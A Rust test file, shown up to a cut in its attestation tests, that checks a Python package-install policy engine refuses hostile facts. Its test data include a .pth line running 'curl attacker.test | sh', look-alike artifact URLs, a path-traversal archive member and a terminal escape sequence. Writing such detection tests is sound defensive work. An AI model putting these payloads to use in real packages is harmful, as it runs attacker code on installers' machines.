//! Every rule: the hostile facts are refused, the good facts pass.

mod common;

use std::path::PathBuf;

use common::*;
use safevenv_policy::{
    Advisory, ArchiveProblem, ArchiveProblemKind, ArtifactKind, ArtifactUrl, AttestationStatus,
    ConfiguredIndex, EnvironmentFile, HashOrigin, InstalledDistribution, Listing, Origin, Policy,
    PthCodeLine, PthFile, Publisher, ResolvedSet, RuleId, Severity, Source,
};

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

#[test]
fn default_preset_passes_good_facts() {
    assert_approved(judge(
        "",
        &set(vec![package("requests", "2.32.3"), package("idna", "3.7")]),
    ));
}

// sources.index

#[test]
fn index_not_configured_is_refused() {
    let mut dist = package("foo", "1.0");
    dist.source = Source::Index {
        url: url("https://other.example/simple/"),
    };
    assert_refused(judge("", &set(vec![dist])), RuleId::SourcesIndex);
}

#[test]
fn index_set_by_requirements_file_is_refused_unless_listed() {
    let mut facts = set(vec![package("foo", "1.0")]);
    facts.indexes[0].origin = Origin::RequirementsFile {
        path: PathBuf::from("/proj/requirements.txt"),
        line: 1,
    };
    let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
    assert!(
        refusals.to_string().contains("requirements.txt"),
        "{refusals}"
    );
    assert_approved(judge(
        &format!("[sources]\nindexes = [\"{INDEX}\"]\n"),
        &facts,
    ));
}

#[test]
fn extra_index_must_be_listed() {
    let extra = "https://private.example/simple";
    let mut dist = package("foo", "1.0");
    dist.source = Source::Index { url: url(extra) };
    let mut facts = set(vec![dist]);
    facts.indexes.push(ConfiguredIndex {
        url: url(extra),
        default: false,
        origin: Origin::CommandLine,
    });
    assert_refused(judge("", &facts), RuleId::SourcesIndex);
    // A trailing slash does not make it another index.
    assert_approved(judge(
        &format!("[sources]\nindexes = [\"{extra}/\"]\n"),
        &facts,
    ));
}

#[test]
fn name_on_two_indexes_is_refused_unless_pinned() {
    let mut dist = package("internal-lib", "1.0");
    dist.also_on_indexes = vec![url("https://private.example/simple/")];
    let facts = set(vec![dist]);
    let refusals = assert_refused(judge("", &facts), RuleId::SourcesIndex);
    let shown = refusals.to_string();
    assert!(shown.contains("dependency confusion"), "{shown}");
    // Both indexes are named, and the fix offers a pin to either.
    for index in [INDEX, "https://private.example/simple/"] {
        assert!(
            shown.contains(&format!("internal-lib = \"{index}\"")),
            "{shown}"
        );
    }
    assert!(shown.contains("[sources.packages]"), "{shown}");
    assert_approved(judge(
        &format!("[sources.packages]\ninternal-lib = \"{INDEX}\"\n"),
        &facts,
    ));
    // A pin to another index does not excuse it either: it is refused as not from its pin.
    assert_refused(
        judge(
            "[sources]\nindexes = [\"https://private.example/simple/\"]\n[sources.packages]\ninternal-lib = \"https://private.example/simple/\"\n",
            &facts,
        ),
        RuleId::SourcesIndex,
    );
}

#[test]
fn index_pins_are_what_resolution_follows_the_organisation_first() {
    let pins = |org: Option<&str>, project: &str| {
        Policy::from_texts(
            org.map(|org| text("/etc/safevenv/policy.toml", org))
                .as_ref(),
            Some(&text("/proj/safevenv.toml", project)),
        )
        .unwrap()
        .index_pins()
        .into_iter()
        .map(|(name, url)| (name.to_string(), url.to_string()))
        .collect::<Vec<_>>()
    };
    let pin = |name: &str, index: &str| format!("[sources.packages]\n{name} = \"{index}\"\n");
    let private = "https://private.example/simple/";
    assert!(pins(None, "").is_empty());
    assert_eq!(
        pins(None, &pin("internal-lib", private)),
        [("internal-lib".to_string(), private.to_string())]
    );
    // The organisation's pin holds for a project file that says nothing of it.
    assert_eq!(
        pins(
            Some(&pin("internal-lib", private)),
            "extends = \"default\"\n"
        ),
        [("internal-lib".to_string(), private.to_string())]
    );
}

#[test]
fn pinned_package_from_another_index_is_refused() {
    let facts = set(vec![package("torch", "2.3.0")]);
    let toml = "[sources]\nindexes = [\"https://download.example/whl\"]\n[sources.packages]\ntorch = \"https://download.example/whl\"\n";
    assert_refused(judge(toml, &facts), RuleId::SourcesIndex);
}

// sources.artifact-url

/// `foo` 1.0 from the default index, to be downloaded from `artifact` with `listing`.
fn locked_at(artifact: &str, listing: Listing) -> ResolvedSet {
    let mut dist = package("foo", "1.0");
    dist.artifact.url = Some(ArtifactUrl {
        url: url(artifact),
        listing,
    });
    set(vec![dist])
}

const LISTED: &str = "https://files.index.example/packages/foo-1.0-py3-none-any.whl";

#[test]
fn a_locked_url_the_index_lists_passes_and_one_it_does_not_is_refused_naming_it() {
    assert_approved(judge("", &locked_at(LISTED, Listing::Listed)));
    assert_approved(judge("", &locked_at(LISTED, Listing::FromIndexPage)));
    let hostile = [
        // Another host, another path on the same host, another port, a look-alike host.
        "https://evil.example/foo-1.0-py3-none-any.whl",
        "https://files.index.example/uploads/foo-1.0-py3-none-any.whl",
        "https://files.index.example:8443/packages/foo-1.0-py3-none-any.whl",
        "https://files.index.example.evil.example/packages/foo-1.0-py3-none-any.whl",
        "http://127.0.0.1:9/foo-1.0-py3-none-any.whl",
    ];
    for artifact in hostile {
        for listing in [
            Listing::NotListed,
            Listing::ListedElsewhere { url: url(LISTED) },
            Listing::OtherHash {
                sha256: "cd".repeat(32),
            },
            Listing::Unavailable {
                reason: "offline".to_string(),
            },
            Listing::IndexNotAllowed,
        ] {
            let refusals = assert_refused(
                judge("", &locked_at(artifact, listing.clone())),
                RuleId::SourcesArtifactUrl,
            );
            let shown = refusals.to_string();
            assert!(
                shown.contains("`foo`") && shown.contains(artifact.trim_start_matches("https://")),
                "{artifact} {listing:?}: {shown}"
            );
            // Judged before anything is fetched, by the sources step alone.
            let early = policy("").evaluate_sources(&locked_at(artifact, listing.clone()));
            assert!(early.is_err(), "{artifact} {listing:?}");
        }
    }
}

#[test]
fn what_the_index_lists_instead_is_named() {
    let refusals = assert_refused(
        judge(
            "",
            &locked_at(
                "https://evil.example/foo-1.0-py3-none-any.whl",
                Listing::ListedElsewhere { url: url(LISTED) },
            ),
        ),
        RuleId::SourcesArtifactUrl,
    );
    assert!(refusals.to_string().contains(LISTED), "{refusals}");
}

#[test]
fn an_unchecked_index_artifact_fails_closed() {
    let mut dist = package("foo", "1.0");
    dist.artifact.url = None;
    assert_refused(judge("", &set(vec![dist])), RuleId::SourcesArtifactUrl);
}

#[test]
fn direct_url_allow_lets_an_unlisted_https_url_through_but_not_plain_http_elsewhere() {
    let allow = |prefix: &str| {
        format!("[sources]\ndirect-url-allow = [{{ package = \"foo\", url = \"{prefix}\" }}]\n")
    };
    let mirror = "https://mirror.example/foo/foo-1.0-py3-none-any.whl";
    let facts = locked_at(mirror, Listing::NotListed);
    assert_refused(judge("", &facts), RuleId::SourcesArtifactUrl);
    assert_approved(judge(&allow("https://mirror.example/foo/"), &facts));
    // The entry is per package and per prefix.
    assert_refused(
        judge(&allow("https://mirror.example/bar/"), &facts),
        RuleId::SourcesArtifactUrl,
    );
    // Plain http to another machine is refused even when allowed, and even when listed by an
    // https index; loopback is not another machine.
    let plain = "http://mirror.example/foo/foo-1.0-py3-none-any.whl";
    for listing in [Listing::NotListed, Listing::Listed] {
        assert_refused(
            judge(
                &allow("http://mirror.example/foo/"),
                &locked_at(plain, listing),
            ),
            RuleId::SourcesArtifactUrl,
        );
    }
    for loopback in [
        "http://127.0.0.1:8080/foo-1.0-py3-none-any.whl",
        "http://[::1]:8080/foo-1.0-py3-none-any.whl",
        "http://localhost:8080/foo-1.0-py3-none-any.whl",
    ] {
        assert_approved(judge("", &locked_at(loopback, Listing::Listed)));
    }
}

#[test]
fn a_plain_http_index_may_list_plain_http_files() {
    let index = "http://index.internal.example/simple/";
    let mut dist = package("foo", "1.0");
    dist.source = Source::Index { url: url(index) };
    dist.artifact.url = Some(ArtifactUrl {
        url: url("http://index.internal.example/files/foo-1.0-py3-none-any.whl"),
        listing: Listing::Listed,
    });
    let mut facts = set(vec![dist]);
    facts.indexes[0].url = url(index);
    assert_approved(judge("", &facts));
    // Another host over plain http is not the index's choice of transport.
    facts.packages[0].artifact.url = Some(ArtifactUrl {
        url: url("http://files.internal.example/foo-1.0-py3-none-any.whl"),
        listing: Listing::Listed,
    });
    let refusals = assert_refused(judge("", &facts), RuleId::SourcesArtifactUrl);
    assert!(refusals.to_string().contains("plain `http`"), "{refusals}");
}

#[test]
fn allows_index_agrees_with_the_sources_index_rule() {
    let facts = set(vec![package("foo", "1.0")]);
    let other = url("https://other.example/simple/");
    assert!(policy("").allows_index(&facts.indexes, &name("foo"), &url(INDEX)));
    assert!(!policy("").allows_index(&facts.indexes, &name("foo"), &other));
    let listed = "[sources]\nindexes = [\"https://other.example/simple\"]\n";
    assert!(policy(listed).allows_index(&facts.indexes, &name("foo"), &other));
    let pinned = "[sources]\nindexes = [\"https://other.example/simple\"]\n[sources.packages]\nfoo = \"https://other.example/simple\"\n";
    assert!(!policy(pinned).allows_index(&facts.indexes, &name("foo"), &url(INDEX)));
    assert!(policy(pinned).allows_index(&facts.indexes, &name("foo"), &other));
}

// sources.direct-url

#[test]
fn direct_url_needs_package_and_prefix() {
    let mut dist = package("foo", "1.0");
    dist.source = Source::DirectUrl {
        url: url("https://user:secret@files.example/foo/foo-1.0-py3-none-any.whl?sig=token"),
        origin: Origin::CommandLine,
    };
    let facts = set(vec![dist]);
    let refusals = assert_refused(judge("", &facts), RuleId::SourcesDirectUrl);
    let shown = refusals.to_string();
    assert!(
        !shown.contains("secret") && !shown.contains("token"),
        "{shown}"
    );
    let allow = |package: &str, prefix: &str| {
        format!(
            "[sources]\ndirect-url-allow = [{{ package = \"{package}\", url = \"{prefix}\" }}]\n"
        )
    };
    assert_approved(judge(&allow("foo", "https://files.example/foo"), &facts));
    assert_refused(
        judge(&allow("bar", "https://files.example/foo"), &facts),
        RuleId::SourcesDirectUrl,
    );
    assert_refused(
        judge(&allow("foo", "https://files.example/fo"), &facts),
        RuleId::SourcesDirectUrl,
    );
}

// sources.vcs, sources.vcs-unpinned

#[test]
fn vcs_needs_allow_and_full_commit() {
    let vcs = |revision: &str| {
        let mut dist = package("foo", "1.0");
        dist.source = Source::Vcs {
            url: url("git+https://git.example/org/foo"),
            requested_revision: Some(revision.to_string()),
            origin: Origin::CommandLine,
        };
        dist.artifact.kind = ArtifactKind::SourceTree;
        dist.artifact.sha256 = None;
        dist.contents = None;
        set(vec![dist])
    };
    let allow = "[sources]\nvcs-allow = [{ package = \"foo\", url = \"https://git.example/org/foo\" }]\n[artifacts]\nsdist-allow = [\"foo\"]\n";
    let just_sdist = "[artifacts]\nsdist-allow = [\"foo\"]\n";
    assert_refused(judge(just_sdist, &vcs(COMMIT)), RuleId::SourcesVcs);
    assert_refused(judge(allow, &vcs("main")), RuleId::SourcesVcsUnpinned);
    assert_refused(
        judge(allow, &vcs(&COMMIT[..12])),
        RuleId::SourcesVcsUnpinned,
    );
    assert_approved(judge(allow, &vcs(COMMIT)));
    // A look-alike organisation is not under the prefix.
    let evil = "[sources]\nvcs-allow = [{ package = \"foo\", url = \"https://git.example/or\" }]\n[artifacts]\nsdist-allow = [\"foo\"]\n";
    assert_refused(judge(evil, &vcs(COMMIT)), RuleId::SourcesVcs);
}

// sources.path

#[test]
fn path_must_be_inside_an_allowed_directory() {
    let local = |path: &str| {
        let mut dist = package("mylib", "0.1");
        dist.source = Source::Path {
            path: PathBuf::from(path),
            editable: true,
            origin: Origin::CommandLine,
        };
        dist.artifact.kind = ArtifactKind::SourceTree;
        dist.artifact.sha256 = None;
        set(vec![dist])
    };
    let allow = "[sources]\npath-allow = [{ package = \"mylib\", path = \"../mylib\" }]\n";
    // `/proj/safevenv.toml` makes `../mylib` mean `/mylib`.
    assert_approved(judge(allow, &local("/mylib/src")));
    assert_refused(judge("", &local("/mylib")), RuleId::SourcesPath);
    assert_refused(judge(allow, &local("/mylib/../etc")), RuleId::SourcesPath);
    assert_refused(judge(allow, &local("/mylib-evil")), RuleId::SourcesPath);
}

// artifacts.hashes

#[test]
fn artifacts_need_a_pinned_hash_from_an_accepted_source() {
    let mut bare = package("foo", "1.0");
    bare.artifact.sha256 = None;
    assert_refused(judge("", &set(vec![bare])), RuleId::ArtifactsHashes);

    let mut short = package("foo", "1.0");
    short.artifact.sha256.as_mut().unwrap().hex = "abc".to_string();
    assert_refused(judge("", &set(vec![short])), RuleId::ArtifactsHashes);

    // The ci preset accepts only pins made in advance.
    let ci = "extends = \"ci\"\n[releases]\nmin-release-age = \"0\"\n";
    assert_refused(
        judge(ci, &set(vec![package("foo", "1.0")])),
        RuleId::ArtifactsHashes,
    );
    let mut locked = package("foo", "1.0");
    locked.artifact.sha256.as_mut().unwrap().origin = HashOrigin::Lockfile;
    assert_approved(judge(ci, &set(vec![locked])));
}

// artifacts.sdist

#[test]
fn sdists_are_refused_unless_allowed() {
    let mut dist = package("foo", "1.0");
    dist.artifact.kind = ArtifactKind::Sdist;
    dist.artifact.filename = "foo-1.0.tar.gz".to_string();
    let facts = set(vec![dist]);
    let refusals = assert_refused(judge("", &facts), RuleId::ArtifactsSdist);
    assert!(
        refusals.refusals()[0]
            .fix
            .contains("[artifacts] sdist-allow")
    );
    assert_approved(judge("[artifacts]\nsdist-allow = [\"foo\"]\n", &facts));
    assert_refused(
        judge("[artifacts]\nsdist-allow = [\"bar\"]\n", &facts),
        RuleId::ArtifactsSdist,
    );
}

#[test]
fn the_pre_build_judgement_refuses_an_unallowed_sdist_and_ignores_contents_rules() {
    let mut dist = package("foo", "1.0");
    dist.artifact.kind = ArtifactKind::Sdist;
    dist.artifact.filename = "foo-1.0.tar.gz".to_string();
    dist.yanked = true;
    let facts = set(vec![dist]);
    let refused = policy("").evaluate_build(&facts).unwrap_err();
    let rules: Vec<RuleId> = refused.refusals().iter().map(|r| r.rule).collect();
    assert_eq!(
        rules,
        vec![RuleId::ArtifactsSdist],
        "only sources and artifacts are judged"
    );
    policy("[artifacts]\nsdist-allow = [\"foo\"]\n")
        .evaluate_build(&facts)
        .unwrap();
}

// releases.yanked

#[test]
fn yanked_is_refused_even_pinned() {
    let mut dist = package("foo", "1.0");
    dist.yanked = true;
    let facts = set(vec![dist]);
    assert_refused(judge("", &facts), RuleId::ReleasesYanked);
    assert_approved(judge("[releases]\nyanked-allow = [\"foo==1.0\"]\n", &facts));
    assert_refused(
        judge("[releases]\nyanked-allow = [\"foo==1.1\"]\n", &facts),
        RuleId::ReleasesYanked,
    );
}

// releases.min-age

#[test]
fn young_releases_wait() {
    let week = "[releases]\nmin-release-age = \"7 days\"\n";
    let mut young = package("foo", "1.0");
    young.upload_time = Some("2025-05-30T00:00:00Z".parse().unwrap());
    let refusals = assert_refused(
        judge(week, &set(vec![young.clone()])),
        RuleId::ReleasesMinAge,
    );
    assert!(refusals.to_string().contains("2 days"), "{refusals}");
    assert_approved(judge(week, &set(vec![package("foo", "1.0")])));
    // Per-package override.
    assert_approved(judge(
        &format!("{week}[releases.min-release-age-overrides]\nfoo = \"1 day\"\n"),
        &set(vec![young.clone()]),
    ));
    // A release fixing a known vulnerability may skip the wait, if the policy says so.
    young.fixes_known_vulnerability = true;
    assert_approved(judge(week, &set(vec![young.clone()])));
    assert_refused(
        judge(
            "extends = \"strict\"\n[attestations]\nmode = \"off\"\n",
            &set(vec![young]),
        ),
        RuleId::ReleasesMinAge,
    );
}

#[test]
fn unknown_upload_time_fails_closed() {
    let mut dist = package("foo", "1.0");
    dist.upload_time = None;
    let facts = set(vec![dist]);
    assert_refused(
        judge("[releases]\nmin-release-age = \"12h\"\n", &facts),
        RuleId::ReleasesMinAge,
    );
    assert_approved(judge("", &facts));
}

// packages.deny, packages.allow

#[test]
fn deny_entries_with_specifiers() {
    let toml = "[packages]\ndeny = [\"evilpkg\", \"foo<2.1\"]\n";
    assert_refused(
        judge(toml, &set(vec![package("evilpkg", "9.9")])),
        RuleId::PackagesDeny,
    );
    assert_refused(
        judge(toml, &set(vec![package("foo", "2.0")])),
        RuleId::PackagesDeny,
    );
    assert_approved(judge(toml, &set(vec![package("foo", "2.1")])));
    // Names are normalized.
    assert_refused(
        judge(
            "[packages]\ndeny = [\"Evil_Pkg\"]\n",
            &set(vec![package("evil-pkg", "1")]),
        ),
        RuleId::PackagesDeny,
    );
}

#[test]
fn allow_entries_and_allow_only() {
    let facts = set(vec![package("requests", "2.32.3"), package("idna", "3.7")]);
    assert_approved(judge("[packages]\nallow = [\"requests>=2.31\"]\n", &facts));
    assert_refused(
        judge("[packages]\nallow = [\"requests<2\"]\n", &facts),
        RuleId::PackagesAllow,
    );
    let only = "[packages]\nallow = [\"requests\"]\nallow-only = true\n";
    let refusals = assert_refused(judge(only, &facts), RuleId::PackagesAllow);
    assert_eq!(refusals.refusals()[0].package.as_ref(), "idna");
    assert_approved(judge(
        "[packages]\nallow = [\"requests\", \"idna\"]\nallow-only = true\n",
        &facts,
    ));
}

// licenses

#[test]
fn licenses_allow_deny_and_unknown() {
    let with = |expression: Option<&str>| {
        let mut dist = package("foo", "1.0");
        dist.license.expression = expression.map(str::to_string);
        set(vec![dist])
    };
    let allow = "[licenses]\nallow = [\"MIT\", \"Apache-2.0\"]\n";
    assert_refused(judge(allow, &with(Some("GPL-3.0-only"))), RuleId::Licenses);
    assert_approved(judge(allow, &with(Some("GPL-3.0-only OR Apache-2.0"))));
    assert_refused(
        judge(allow, &with(Some("MIT AND GPL-3.0-only"))),
        RuleId::Licenses,
    );
    assert_refused(judge(allow, &with(None)), RuleId::Licenses);
    assert_approved(judge(&format!("{allow}unknown = \"allow\"\n"), &with(None)));
    assert_approved(judge(
        &format!("{allow}exceptions = [\"foo\"]\n"),
        &with(Some("GPL-3.0-only")),
    ));
    // Without an allowlist, only the deny list matters.
    assert_approved(judge("", &with(None)));
    assert_refused(
        judge(
            "[licenses]\ndeny = [\"AGPL-3.0-only\"]\n",
            &with(Some("AGPL-3.0-only")),
        ),
        RuleId::Licenses,
    );

    let mut classified = package("bar", "1.0");
    classified.license.expression = None;
    classified.license.classifiers = vec!["License :: OSI Approved :: MIT License".to_string()];
    assert_approved(judge(allow, &set(vec![classified])));
}

// contents.pth-exec

/// `project` installing `file`, whose lines the wheel reader classified as code are `code`.
fn with_pth(project: &str, file: &str, code: &[&str]) -> safevenv_policy::PackageFacts {
    let mut facts = package(project, "1.0");
    facts.contents.as_mut().unwrap().pth_files.push(PthFile {
        name: file.to_string(),
        path: format!("lib/python3.12/site-packages/{file}"),
        code_lines: code
            .iter()
            .enumerate()
            .map(|(index, text)| PthCodeLine {
                number: index + 2,
                text: (*text).to_string(),
                adds_path: None,
            })
            .collect(),
    });
    facts
}

#[test]
fn executable_pth_is_refused() {
    let evil = with_pth(
        "foo",
        "foo.pth",
        &["import os; os.system('curl attacker.test | sh')"],
    );
    let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
    let message = refusals.to_string();
    assert!(message.contains("foo.pth"), "{message}");
    assert!(
        message.contains("line 2 `import os; os.system('curl attacker.test | sh')`"),
        "{message}"
    );
    // A file with path lines only runs no code.
    assert_approved(judge("", &set(vec![with_pth("foo", "foo.pth", &[])])));
    // The exemption is by package AND file.
    let allow = "[contents]\npth-exec-allow = [{ package = \"foo\", file = \"foo.pth\" }]\n";
    assert_approved(judge(
        allow,
        &set(vec![with_pth("foo", "foo.pth", &["import foo"])]),
    ));
    assert_refused(
        judge(
            allow,
            &set(vec![with_pth("bar", "foo.pth", &["import foo"])]),
        ),
        RuleId::ContentsPthExec,
    );
}

#[test]
fn files_of_the_environment_are_refused_whatever_the_policy_allows() {
    let mut evil = package("foo", "1.0");
    evil.contents
        .as_mut()
        .unwrap()
        .environment_files
        .push(EnvironmentFile {
            path: "bin/python".to_string(),
            owner: "the environment's interpreter".to_string(),
        });
    // Even a policy that allows every other content rule cannot allow it.
    let loose = "[contents]\npth-exec = \"allow\"\noverwrite = \"allow\"\nstdlib-shadow = \"allow\"\nscript-clash = \"allow\"\n";
    for policy in ["", loose] {
        let refusals = assert_refused(
            judge(policy, &set(vec![evil.clone()])),
            RuleId::ContentsEnvironment,
        );
        assert!(refusals.to_string().contains("bin/python"), "{refusals}");
    }
    assert_approved(judge("", &set(vec![package("foo", "1.0")])));
}

#[test]
fn startup_modules_are_refused_unless_allowed_like_pth_code() {
    let with_hook = |project: &str| {
        let mut facts = package(project, "1.0");
        facts
            .contents
            .as_mut()
            .unwrap()
            .startup_hooks
            .push("lib/python3.12/site-packages/sitecustomize.py".to_string());
        facts
    };
    let refusals = assert_refused(
        judge("", &set(vec![with_hook("foo")])),
        RuleId::ContentsStartupHook,
    );
    assert!(
        refusals.to_string().contains("sitecustomize.py"),
        "{refusals}"
    );
    let allow =
        "[contents]\npth-exec-allow = [{ package = \"foo\", file = \"sitecustomize.py\" }]\n";
    assert_approved(judge(allow, &set(vec![with_hook("foo")])));
    assert_refused(
        judge(allow, &set(vec![with_hook("bar")])),
        RuleId::ContentsStartupHook,
    );
    assert_approved(judge(
        "[contents]\npth-exec = \"allow\"\n",
        &set(vec![with_hook("bar")]),
    ));
}

#[test]
fn a_pth_code_line_is_shown_with_its_control_characters_escaped() {
    // A terminal escape sequence could otherwise erase the line that names the code.
    let evil = with_pth("foo", "foo.pth", &["import os\x1b[2K\r/opt/lib"]);
    let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
    let message = refusals.to_string();
    assert!(!message.contains('\x1b'), "{message:?}");
    assert!(
        message.contains("import os\\u{1b}[2K\\r/opt/lib"),
        "{message}"
    );
}

#[test]
fn default_preset_knows_the_legitimate_pth_files() {
    let setuptools = with_pth(
        "setuptools",
        "distutils-precedence.pth",
        &["import os; var = 'SETUPTOOLS_USE_DISTUTILS'"],
    );
    assert_approved(judge("", &set(vec![setuptools])));
    // Another project may not borrow setuptools' exemption.
    let impostor = with_pth("setuptool", "distutils-precedence.pth", &["import os"]);
    assert_refused(judge("", &set(vec![impostor])), RuleId::ContentsPthExec);
    // coverage's subprocess hook, and only coverage's.
    let hook = "import sys; exec('import os\\nif os.getenv(\"COVERAGE_PROCESS_START\"): ...')";
    assert_approved(judge(
        "",
        &set(vec![with_pth("coverage", "a1_coverage.pth", &[hook])]),
    ));
    assert_refused(
        judge(
            "",
            &set(vec![with_pth("coverage-tools", "a1_coverage.pth", &[hook])]),
        ),
        RuleId::ContentsPthExec,
    );

    let finder = "import __editable___mylib_finder; __editable___mylib_finder.install()";
    let mut local = with_pth("mylib", "__editable__.mylib-0.1.pth", &[finder]);
    local.source = Source::Path {
        path: PathBuf::from("/proj/mylib"),
        editable: true,
        origin: Origin::CommandLine,
    };
    let allow_path = "[sources]\npath-allow = [{ package = \"mylib\", path = \".\" }]\n";
    assert_approved(judge(allow_path, &set(vec![local])));
    // The same file in a wheel from an index is not an editable install.
    let from_index = with_pth("mylib", "__editable__.mylib-0.1.pth", &[finder]);
    assert_refused(judge("", &set(vec![from_index])), RuleId::ContentsPthExec);
}

// contents.overwrite

#[test]
fn shared_files_are_refused() {
    let mut a = package("alpha", "1.0");
    let mut b = package("beta", "1.0");
    let shared = "lib/python3.12/site-packages/requests/__init__.py".to_string();
    a.contents.as_mut().unwrap().files.push(shared.clone());
    b.contents.as_mut().unwrap().files.push(shared.clone());
    let refusals = assert_refused(
        judge("", &set(vec![a.clone(), b.clone()])),
        RuleId::ContentsOverwrite,
    );
    assert_eq!(
        refusals.refusals().len(),
        2,
        "both sides are reported:\n{refusals}"
    );
    let allow = "[contents]\noverwrite-allow = [{ package = \"*\", file = \"*/site-packages/requests/__init__.py\" }]\n";
    assert_approved(judge(allow, &set(vec![a.clone(), b])));

    // A file an installed distribution owns.
    let mut facts = set(vec![a.clone()]);
    facts.installed.push(InstalledDistribution {
        name: name("requests"),
        files: vec![shared],
        scripts: Vec::new(),
    });
    assert_refused(judge("", &facts), RuleId::ContentsOverwrite);
    // Upgrading a distribution does not clash with its own old files.
    let old_alpha = InstalledDistribution {
        name: name("alpha"),
        files: a.contents.as_ref().unwrap().files.clone(),
        scripts: Vec::new(),
    };
    let mut upgrade = set(vec![package("alpha", "2.0")]);
    upgrade.installed.push(old_alpha);
    assert_approved(judge("", &upgrade));
}

/// Issue #12 §8: names that differ only by case or Unicode normalisation are one file on macOS
/// (and by case on Windows): two wheels writing them clash as surely as with one spelling.
#[test]
fn files_one_by_case_or_normalisation_are_shared_files() {
    let site = "lib/python3.12/site-packages";
    let clashing = [
        ("Foo/x.py", "foo/x.py"),
        ("requests/__init__.py", "REQUESTS/__init__.py"),
        // `é` precomposed (NFC) and decomposed (NFD).
        ("caf\u{e9}/x.py", "cafe\u{301}/x.py"),
        ("Caf\u{e9}/x.py", "cafe\u{301}/X.py"),
        // Å as one letter, as the Ångström sign (NFC maps it to the letter), decomposed.
        ("\u{c5}/x.py", "\u{212b}/x.py"),
        ("\u{c5}/x.py", "a\u{30a}/x.py"),
        // The Kelvin sign is `K` once normalised.
        ("\u{212a}elvin.py", "kelvin.py"),
    ];
    for (first, second) in clashing {
        let mut a = package("alpha", "1.0");
        let mut b = package("beta", "1.0");
        a.contents
            .as_mut()
            .unwrap()
            .files
            .push(format!("{site}/{first}"));
        b.contents
            .as_mut()
            .unwrap()
            .files
            .push(format!("{site}/{second}"));
        let refusals = assert_refused(
            judge("", &set(vec![a.clone(), b.clone()])),
            RuleId::ContentsOverwrite,
        );
        let shown = refusals.to_string();
        assert!(shown.contains(first) && shown.contains(second), "{shown}");

        // The same against an installed distribution's file.
        let mut facts = set(vec![a]);
        facts.installed.push(InstalledDistribution {
            name: name("gamma"),
            files: vec![format!("{site}/{second}")],
            scripts: Vec::new(),
        });
        assert_refused(judge("", &facts), RuleId::ContentsOverwrite);
    }

    // Honest neighbours: different letters stay different files.
    let distinct = [
        ("foo/x.py", "foo/y.py"),
        ("caf\u{e9}/x.py", "cafe/x.py"),
        ("a\u{30a}/x.py", "a/x.py"),
        ("foo/x.py", "foo_/x.py"),
    ];
    for (first, second) in distinct {
        let mut a = package("alpha", "1.0");
        let mut b = package("beta", "1.0");
        a.contents
            .as_mut()
            .unwrap()
            .files
            .push(format!("{site}/{first}"));
        b.contents
            .as_mut()
            .unwrap()
            .files
            .push(format!("{site}/{second}"));
        assert_approved(judge("", &set(vec![a, b])));
    }
}

// contents.stdlib-shadow

#[test]
fn stdlib_names_are_refused_per_version() {
    let mut shadow = package("jsonlib", "1.0");
    shadow
        .contents
        .as_mut()
        .unwrap()
        .top_level
        .push("json".to_string());
    assert_refused(judge("", &set(vec![shadow])), RuleId::ContentsStdlibShadow);

    let mut cgi = package("legacy-cgi", "2.6");
    cgi.contents.as_mut().unwrap().top_level = vec!["cgi".to_string()];
    let mut facts = set(vec![cgi]);
    assert_refused(judge("", &facts), RuleId::ContentsStdlibShadow);
    facts.python_version = Some((3, 13));
    assert_approved(judge("", &facts));
    facts.python_version = None;
    assert_refused(judge("", &facts), RuleId::ContentsStdlibShadow);
    let allow =
        "[contents]\nstdlib-shadow-allow = [{ package = \"legacy-cgi\", module = \"cgi\" }]\n";
    assert_approved(judge(allow, &facts));
}

// contents.script-clash

#[test]
fn reserved_and_shared_scripts_are_refused() {
    let with_script = |project: &str, script: &str| {
        let mut facts = package(project, "1.0");
        facts
            .contents
            .as_mut()
            .unwrap()
            .scripts
            .push(script.to_string());
        facts
    };
    assert_refused(
        judge("", &set(vec![with_script("foo", "python3")])),
        RuleId::ContentsScriptClash,
    );
    assert_refused(
        judge("", &set(vec![with_script("foo", "pip3.12")])),
        RuleId::ContentsScriptClash,
    );
    assert_refused(
        judge("", &set(vec![with_script("foo", "activate")])),
        RuleId::ContentsScriptClash,
    );
    assert_approved(judge("", &set(vec![with_script("pip", "pip3.12")])));
    assert_approved(judge("", &set(vec![with_script("foo", "foo-cli")])));
    assert_refused(
        judge(
            "",
            &set(vec![with_script("foo", "tool"), with_script("bar", "tool")]),
        ),
        RuleId::ContentsScriptClash,
    );
    let mut facts = set(vec![with_script("foo", "black")]);
    facts.installed.push(InstalledDistribution {
        name: name("black"),
        files: Vec::new(),
        scripts: vec!["black".to_string()],
    });
    assert_refused(judge("", &facts), RuleId::ContentsScriptClash);
}

// contents.archive

#[test]
fn archive_problems_are_always_refused() {
    let mut dist = package("foo", "1.0");
    dist.contents
        .as_mut()
        .unwrap()
        .archive_problems
        .push(ArchiveProblem {
            kind: ArchiveProblemKind::PathTraversal,
            member: Some("../../etc/cron.d/x".to_string()),
            detail: "member escapes the install directory".to_string(),
        });
    let facts = set(vec![dist]);
    assert_refused(judge("", &facts), RuleId::ContentsArchive);
    // Nothing in a policy can allow it.
    let loose = "[contents]\npth-exec = \"allow\"\noverwrite = \"allow\"\nstdlib-shadow = \"allow\"\nscript-clash = \"allow\"\n";
    assert_refused(judge(loose, &facts), RuleId::ContentsArchive);
    // A wheel nobody inspected fails closed.
    let mut uninspected = package("foo", "1.0");
    uninspected.contents = None;
    assert_refused(judge("", &set(vec![uninspected])), RuleId::ContentsArchive);
}

// attestations, attestations.publisher-change

fn publisher(repository: &str, workflow: &str) -> Publisher {
    Publisher {
        kind: "github".to_string(),
        repository: repository.to_string(),
        workflow: Some(workflow.to_string()),
        environment: None,
    }
}

#[test]
fn attestation_modes_and_pins() {
    let require = "[attestations]\nmode = \"require\"\n";
    assert_refused(
        judge(require, &set(vec![package("requests", "2.32.3")])),
        RuleId::Attestations,
    );

    let mut invalid = package("requests", "2.32.3");
    invalid.attestation.status = AttestationStatus::Invalid {
        reason: "signature does not match".to_string(),
    };
    assert_refused(judge("", &set(vec![invalid.clone()])), RuleId::Attestations);
    assert_approved(judge(
        "[attestations]\nmode = \"off\"\n",
        &set(vec![invalid]),
    ));

    let mut verified = package("requests", "2.32.3");
    verified.attestation.status =
        AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
    let facts = set(vec![verified]);
    assert_approved(judge(require, &facts));
    let pin = |repository: &str| {
        format!(
